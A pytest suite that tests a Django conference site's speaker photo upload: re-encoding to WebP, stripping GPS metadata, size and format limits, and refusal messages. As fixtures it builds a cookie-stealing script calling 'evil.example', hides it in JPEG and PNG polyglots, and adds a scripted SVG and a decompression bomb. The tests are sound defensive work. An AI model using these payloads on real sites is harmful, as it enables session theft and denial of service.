import io
import random

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image

from speakers.models import Speaker
from tests.factories import SpeakerFactory, UserFactory

pytestmark = pytest.mark.django_db


def picture_bytes(format: str, *, size=(900, 600), mode="RGB", exif=None) -> bytes:
    output = io.BytesIO()
    options = {"exif": exif} if exif is not None else {}
    Image.new(mode, size, (20, 120, 60) if mode == "RGB" else None).save(output, format=format, **options)
    return output.getvalue()


def exif_with_gps() -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.IFD.GPSInfo] = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (48.0, 52.0, 7.0)}
    return exif


@pytest.fixture
def speaker_client(client):
    user = UserFactory()
    speaker = SpeakerFactory(user=user, slug="aurore")
    client.force_login(user)
    return client, speaker


def upload(client, name: str, content: bytes, content_type: str = "image/jpeg"):
    return client.post("/en/speaker-area/aurore/photo/", {"photo": SimpleUploadedFile(name, content, content_type)})


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("portrait.jpg", picture_bytes("JPEG", exif=exif_with_gps())),
        ("portrait.png", picture_bytes("PNG", mode="RGBA")),
        ("portrait.webp", picture_bytes("WEBP")),
    ],
)
def test_valid_photos_are_re_encoded_square_without_metadata(speaker_client, name, content):
    client, speaker = speaker_client
    assert b"PhoneMaker" not in content or name.endswith(".jpg")
    response = upload(client, name, content)
    assert response.status_code == 302
    speaker.refresh_from_db()
    for field, side in ((speaker.photo, 400), (speaker.photo_small, 160)):
        with field.open("rb") as stored:
            data = stored.read()
        picture = Image.open(io.BytesIO(data))
        assert (picture.format, picture.size) == ("WEBP", (side, side))
        assert len(picture.getexif()) == 0
        assert b"PhoneMaker" not in data and b"GPS" not in data
        assert field.name.startswith("speakers/") and "portrait" not in field.name


PAYLOAD = b'<html><script>fetch("https://evil.example/?c="+document.cookie)</script></html>'


def jpeg_with_html_after_its_end() -> bytes:
    """A polyglot: a real JPEG that a browser sniffing the bytes could also take for HTML."""
    return picture_bytes("JPEG") + PAYLOAD


def png_with_html_in_a_text_chunk() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", PAYLOAD.decode())
    output = io.BytesIO()
    Image.new("RGB", (500, 500), (200, 30, 30)).save(output, format="PNG", pnginfo=info)
    return output.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [("photo.jpg", jpeg_with_html_after_its_end()), ("photo.png", png_with_html_in_a_text_chunk())],
    ids=["jpeg-then-html", "png-with-html-chunk"],
)
def test_a_polyglot_picture_is_stored_re_encoded_without_its_payload(speaker_client, name, content):
    client, speaker = speaker_client
    assert PAYLOAD in content
    assert upload(client, name, content).status_code == 302
    speaker.refresh_from_db()
    for field in (speaker.photo, speaker.photo_small):
        with field.open("rb") as stored:
            data = stored.read()
        assert Image.open(io.BytesIO(data)).format == "WEBP"
        assert b"<script" not in data and b"evil.example" not in data


def test_a_new_photo_replaces_and_deletes_the_old_files(speaker_client, django_capture_on_commit_callbacks):
    client, speaker = speaker_client
    upload(client, "one.png", picture_bytes("PNG"))
    speaker.refresh_from_db()
    old = speaker.photo.name
    with django_capture_on_commit_callbacks(execute=True):
        upload(client, "two.png", picture_bytes("PNG"))
    speaker.refresh_from_db()
    assert speaker.photo.name != old
    assert not speaker.photo.storage.exists(old)


def bomb() -> bytes:
    output = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(output, format="PNG")  # 144 megapixels, a few KB
    return output.getvalue()


def truncated_jpeg() -> bytes:
    """Half of a photo-like JPEG (noise, so that every byte matters), as a broken upload leaves it."""
    output = io.BytesIO()
    Image.frombytes("RGB", (600, 400), random.Random(7).randbytes(600 * 400 * 3)).save(output, format="JPEG")
    data = output.getvalue()
    return data[: len(data) // 2]


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("photo.jpg", b"Just some text pretending to be a photo.\n" * 10, "This file is not a picture we can read."),
        ("photo.svg", svg_with_script(), "This file is not a picture we can read."),
        ("photo.jpg", b"\xff\xd8" + b"0" * (5 * 1024 * 1024), "The photo is larger than 5 MB."),
        ("photo.png", bomb(), "This picture has far too many pixels."),
        ("photo.jpg", truncated_jpeg(), "This picture is damaged or incomplete."),
        ("photo.gif", picture_bytes("GIF"), "Please send a JPEG, PNG or WebP photo."),
    ],
    ids=["renamed-text", "svg-with-script", "oversized", "decompression-bomb", "truncated", "gif"],
)
def test_bad_files_are_refused_with_a_message(speaker_client, name, content, message):
    client, speaker = speaker_client
    response = upload(client, name, content)
    assert response.status_code == 400
    assert message in response.content.decode()
    speaker.refresh_from_db()
    assert not speaker.photo
    assert Speaker.objects.get(pk=speaker.pk).updated_by is None


def test_refusals_are_in_french_on_the_french_site(speaker_client):
    client, _ = speaker_client
    response = client.post("/espace-intervenant/aurore/photo/", {"photo": SimpleUploadedFile("x.jpg", b"texte")})
    assert response.status_code == 400
    assert "image" in response.content.decode().lower()
    assert 'lang="fr"' in response.content.decode()


def test_removing_the_photo(speaker_client):
    client, speaker = speaker_client
    upload(client, "one.png", picture_bytes("PNG"))
    client.post("/en/speaker-area/aurore/photo/", {"remove": "1"})
    speaker.refresh_from_db()
    assert not speaker.photo and not speaker.photo_small
